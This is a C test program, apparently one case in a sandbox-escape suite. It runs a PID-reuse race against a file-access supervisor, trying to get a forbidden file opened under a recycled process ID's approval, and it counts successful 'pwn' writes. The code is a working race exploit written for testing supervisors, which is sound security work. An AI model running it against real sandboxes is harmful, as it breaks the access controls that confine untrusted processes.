/* E64: PID reuse around a pending notification. Each round forks a child
 * that write-opens EVIL and is SIGKILLed by the parent after a random
 * 0-300 us (often while its open waits for the supervisor), then a burst of
 * short-lived children that write-open GOOD (allowed) to move the PID
 * counter on (pid_max wraps: on a 32768 pid_max box, within seconds). A
 * supervisor that reads or answers for a recycled TID without ID_VALID
 * checks may apply GOOD's decision to EVIL. Hits: EVIL opened. */
#include "esc.h"
#include <signal.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	esc_usage(argc, 4, "e64_pid_reuse SECONDS GOOD EVIL");
	double end = esc_now() + atof(argv[1]);
	struct esc_id canary = esc_id_of(argv[3]);
	long rounds = 0, forks = 0;
	int hitpipe[2];
	if (pipe(hitpipe) < 0)
		return 2;
	srand((unsigned)getpid());
	while (esc_now() < end) {
		rounds++;
		pid_t a = fork();
		if (a == 0) {
			int fd = open(argv[3], O_WRONLY | O_APPEND);
			if (fd >= 0 && esc_fd_is(fd, canary)) {
				if (write(fd, "pwn-e64\n", 8) < 0 || write(hitpipe[1], "h", 1) < 0)
					_exit(1);
			}
			_exit(0);
		}
		forks++;
		usleep((useconds_t)(rand() % 300));
		if (a > 0) {
			kill(a, SIGKILL);
			waitpid(a, NULL, 0);
		}
		for (int i = 0; i < 8; i++) {
			pid_t b = fork();
			if (b == 0) {
				int fd = open(argv[2], O_WRONLY | O_APPEND);
				_exit(fd < 0);
			}
			forks++;
			if (b > 0)
				waitpid(b, NULL, 0);
		}
	}
	close(hitpipe[1]);
	long hits = 0;
	char c;
	while (read(hitpipe[0], &c, 1) == 1)
		hits++;
	printf("RACE attempts=%ld ok=%ld hits=%ld\n", rounds, forks, hits);
	return 0;
}
